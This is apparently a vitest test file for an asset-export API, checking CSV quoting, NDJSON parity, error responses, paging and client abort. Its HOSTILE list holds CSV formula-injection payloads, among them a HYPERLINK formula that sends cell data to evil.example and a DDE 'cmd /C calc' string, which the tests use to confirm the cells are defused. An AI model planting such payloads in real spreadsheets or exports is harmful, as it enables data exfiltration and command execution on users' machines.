// GET /api/v1/assets/export: CSV parsed back by Python's csv module (RFC 4180), formula-injection
// cells defused, the same assets as GET /assets for every filter, NDJSON lines equal to the API's
// assets, 422 and 401 in the SPEC's error shape, paging past one store page, and a client that
// goes away mid-stream.
import { execFileSync } from 'node:child_process';
import { request } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Asset } from '../shared/api/schemas.ts';
import { ASSET_CSV_COLUMNS } from '../server/http/asset-csv.ts';
import { EXPORT_PAGE } from '../server/http/asset-export.ts';
import { waitFor } from './helpers/wait-for.ts';
import { call, manualClock, startTestServer, type TestServer } from './helpers/test-server.ts';

let t: TestServer;
let key: string;
const clock = manualClock();

/** Names a spreadsheet would run as formulas, and names that need RFC 4180 quoting. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTAB=1', '\rCR=1', 'a,b "quoted"\r\nsecond line.txt', 'naïve ünïcode 名前.pdf'];
const PLAIN = ['contract-2026.pdf', 'notes.txt', 'payroll.xlsx'];
const SECRET = 'Confidential — NDA. Payment to IBAN DE89370400440532013000, contact ada@example.com';

/** RFC 4180 parsed by Python's csv module, strictly: an unbalanced quote is an error, not a guess. */
function parseCsv(text: string): string[][] {
  const script = 'import csv, io, json, sys\nprint(json.dumps(list(csv.reader(io.TextIOWrapper(sys.stdin.buffer, encoding="utf-8", newline=""), strict=True))))';
  return JSON.parse(execFileSync('python3', ['-c', script], { input: text, encoding: 'utf8', maxBuffer: 256 * 1024 * 1024 })) as string[][];
}

const exportOf = (qs: string, k = key) => call(`${t.api}/assets/export?${qs}`, { key: k });

async function listAll(qs: string, k = key): Promise<Asset[]> {
  const out: Asset[] = [];
  let url: string | undefined = `${t.api}/assets?limit=500${qs ? `&${qs}` : ''}`;
  while (url) {
    const res = await call(url, { key: k });
    expect(res.status, url).toBe(200);
    out.push(...(res.body as Asset[]));
    const link = res.headers.get('link');
    url = link ? `${t.url}${/<([^>]+)>/.exec(link)![1]}` : undefined;
  }
  return out;
}

function ndjsonLines(text: string): unknown[] {
  expect(text === '' || text.endsWith('\n')).toBe(true);
  return text.split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as unknown);
}

beforeAll(async () => {
  t = await startTestServer({ clock });
  key = await t.workspaceWithKey('acme');
  for (const [i, name] of [...HOSTILE, ...PLAIN].entries()) {
    const res = await call(`${t.api}/classify`, { key, json: { name, source: i % 2 ? 'agent' : 'api', content: i % 3 === 0 ? SECRET : 'lunch menu' } });
    expect(res.status, name).toBe(201);
    clock.advance(1000);
  }
  expect((await call(`${t.api}/classify`, { key, json: { name: 'locked.zip', unreadable: 'encrypted: password-protected' } })).status).toBe(201);
  expect((await call(`${t.api}/assets/removals`, { key, json: { name: 'notes.txt', source: 'agent' } })).status).toBe(200);
});
afterAll(() => t.close());

describe('GET /api/v1/assets/export?format=csv', () => {
  it('is RFC 4180 with a header row and CRLF, one row per asset with the API fields, and an attachment', async () => {
    const res = await exportOf('format=csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    const stamp = clock.now().toISOString().slice(0, 19).replace(/[-:]/g, '');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="assets-${stamp}Z.csv"`);
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect(res.text.startsWith(`${ASSET_CSV_COLUMNS.join(',')}\r\n`)).toBe(true);
    expect(res.text.endsWith('\r\n')).toBe(true);
    // Outside quoted fields every line break is CRLF: strip the quoted fields and look.
    expect(res.text.replace(/"(?:[^"]|"")*"/g, '').match(/(?<!\r)\n/)).toBeNull();

    const [header, ...rows] = parseCsv(res.text);
    expect(header).toEqual([...ASSET_CSV_COLUMNS]);
    const api = await listAll('');
    expect(rows.map((r) => Number(r[0]))).toEqual(api.map((a) => a.id));
    const col = (name: string) => ASSET_CSV_COLUMNS.indexOf(name as (typeof ASSET_CSV_COLUMNS)[number]);
    for (const [i, a] of api.entries()) {
      const r = rows[i]!;
      expect(r).toHaveLength(ASSET_CSV_COLUMNS.length);
      const defused = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
      expect({ name: r[col('name')], label: r[col('label')], level: r[col('label_level')], rules: r[col('matched_rules')], source: r[col('source')], at: r[col('classified_at')], type: r[col('asset_type')] }).toEqual({
        name: defused(a.name),
        label: a.label.name,
        level: String(a.label.level),
        rules: a.matched_rules,
        source: a.source,
        at: a.classified_at,
        type: a.asset_type ?? '',
      });
      expect(r[col('finding_count')]).toBe(String(a.findings.reduce((n, f) => n + f.count, 0)));
      expect(r[col('findings')]).toBe(a.findings.map((f) => `${f.rule}: ${f.count} (${f.confidence})`).join('; '));
      expect(r[col('unreadable')]).toBe(a.unreadable ?? '');
    }
    expect(rows.find((r) => r[col('name')] === 'locked.zip')![col('unreadable')]).toBe('encrypted: password-protected');
  });

  it('defuses every formula start with a leading quote inside a quoted cell, and never writes a sample value', async () => {
    const { text } = await exportOf('format=csv');
    for (const name of HOSTILE.filter((n) => /^[=+\-@\t\r]/.test(n))) {
      const cell = `"'${name.replaceAll('"', '""')}"`;
      expect(text, JSON.stringify(name)).toContain(`,${cell},`);
    }
    const names = parseCsv(text).slice(1).map((r) => r[1]);
    expect(names).toContain('a,b "quoted"\r\nsecond line.txt');
    expect(names).toContain('naïve ünïcode 名前.pdf');
    for (const n of names) expect(n, n).not.toMatch(/^[=+\-@\t\r]/);
    const withFindings = (await listAll('')).filter((a) => a.findings.length > 0);
    expect(withFindings.length).toBeGreaterThan(0);
    for (const s of withFindings.flatMap((a) => a.findings.flatMap((f) => f.samples))) expect(text).not.toContain(s.value);
    expect(text).not.toContain('DE89370400440532013000');
  });
});

describe('the same assets as GET /assets', () => {
  const FILTERS = ['', 'source=agent', 'source=api', 'status=removed', 'status=all', 'label=restricted', 'label=Public', 'unreadable=true', 'unreadable=false', 'q=pdf', 'q=%3D', 'q=zz', 'q=contract&source=api', 'status=all&source=agent&unreadable=false'];

  it.each(FILTERS)('filter "%s": ndjson lines equal the listed assets, csv rows the same ids', async (qs) => {
    const api = await listAll(qs);
    const nd = await exportOf(`format=ndjson${qs ? `&${qs}` : ''}`);
    expect(nd.status).toBe(200);
    expect(nd.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
    expect(nd.headers.get('content-disposition')).toMatch(/^attachment; filename="assets-\d{8}T\d{6}Z\.ndjson"$/);
    expect(ndjsonLines(nd.text)).toEqual(api);
    const csv = await exportOf(`${qs}${qs ? '&' : ''}format=csv`);
    expect(parseCsv(csv.text).slice(1).map((r) => Number(r[0]))).toEqual(api.map((a) => a.id));
  });

  it('filters something out for most of them (the cases are not all the same)', async () => {
    const sizes = new Set(await Promise.all(FILTERS.map(async (qs) => (await listAll(qs)).length)));
    expect(sizes.size).toBeGreaterThan(4);
  });

  it('defaults to CSV, and an empty result is just the header', async () => {
    const res = await exportOf('');
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect((await exportOf('format=csv&q=nothing-like-this')).text).toBe(`${ASSET_CSV_COLUMNS.join(',')}\r\n`);
    expect((await exportOf('format=ndjson&q=nothing-like-this')).text).toBe('');
  });
});

describe('bad requests', () => {
  it.each([
    ['format=xlsx', 'format'],
    ['format=CSV', 'format'],
    ['format=csv&format=ndjson', 'format'],
    ['status=gone', 'status'],
    ['source=ftp', 'source'],
    ['unreadable=yes', 'unreadable'],
    [`q=${encodeURIComponent('a\u0000b')}`, 'q'],
    [`label=${'x'.repeat(65)}`, 'label'],
  ])('%s → 422 naming query.%s', async (qs, field) => {
    const res = await exportOf(qs);
    expect(res.status).toBe(422);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    const body = res.body as { detail: { loc: string[]; msg: string; type: string }[]; code: string };
    expect(body.code).toBe('validation_error');
    expect(body.detail.map((d) => d.loc)).toContainEqual(['query', field]);
  });

  it('needs a valid key, and shows only the key\'s workspace', async () => {
    expect(await exportOf('format=csv', '')).toMatchObject({ status: 401, body: { detail: 'Missing API key' } });
    expect((await exportOf('format=csv', `${key.slice(0, -4)}0000`)).status).toBe(401);
    const other = await t.workspaceWithKey('other');
    expect((await call(`${t.api}/classify`, { key: other, json: { name: 'theirs.txt' } })).status).toBe(201);
    expect(ndjsonLines((await exportOf('format=ndjson&status=all', other)).text).map((a) => (a as Asset).name)).toEqual(['theirs.txt']);
    expect((await exportOf('format=csv&status=all')).text).not.toContain('theirs.txt');
  });
});

describe('many assets', () => {
  let bulkKey: string;
  const TOTAL = 6000;
  const LONG = 'x'.repeat(1000);

  beforeAll(async () => {
    bulkKey = await t.workspaceWithKey('bulk');
    const ws = (await t.repo.getWorkspaceByName('bulk'))!;
    const label = { name: 'Public', level: 0, color: '#22c55e' };
    // Written through the repository (either backend), concurrently so group commit batches them;
    // many share a timestamp, so paging has to break ties by id.
    await Promise.all(
      Array.from({ length: TOTAL }, (_, i) =>
        t.repo.saveClassification(ws.id, { source: 'agent', name: `${i}-${LONG}.txt`, asset_type: 'document', label, matched_rules: [], findings: [], classified_at: `2026-01-01T00:${String(Math.floor(i / 600)).padStart(2, '0')}:00` }),
      ),
    );
  }, 120_000);

  it(`pages through the store past ${EXPORT_PAGE} rows without losing or repeating one`, async () => {
    const api = await listAll('', bulkKey);
    expect(api).toHaveLength(TOTAL);
    const rows = parseCsv((await exportOf('format=csv', bulkKey)).text).slice(1);
    expect(rows.map((r) => Number(r[0]))).toEqual(api.map((a) => a.id));
    expect(new Set(rows.map((r) => r[0])).size).toBe(TOTAL);
  }, 60_000);

  it('stops writing when the client goes away, and goes on serving', async () => {
    // The client reads nothing: the socket fills, the server waits for 'drain', then the client leaves.
    const url = new URL(`${t.api}/assets/export?format=ndjson`);
    await new Promise<void>((resolve, reject) => {
      const req = request(url, { headers: { 'X-API-Key': bulkKey } }, (res) => {
        expect(res.statusCode).toBe(200);
        res.pause();
        setTimeout(() => (req.destroy(), resolve()), 300);
      });
      req.on('error', (err) => ((err as NodeJS.ErrnoException).code === 'ECONNRESET' ? resolve() : reject(err)));
      req.end();
    });
    const line = await waitFor(() => t.logs.find((l) => l.msg === 'asset export' && l.format === 'ndjson' && (l.assets as number) > 1000), 'the export log line');
    expect(line).toMatchObject({ aborted: true });
    expect(line.assets as number).toBeLessThan(TOTAL);
    expect((await exportOf('format=csv&q=5999', bulkKey)).status).toBe(200);
  }, 60_000);
});
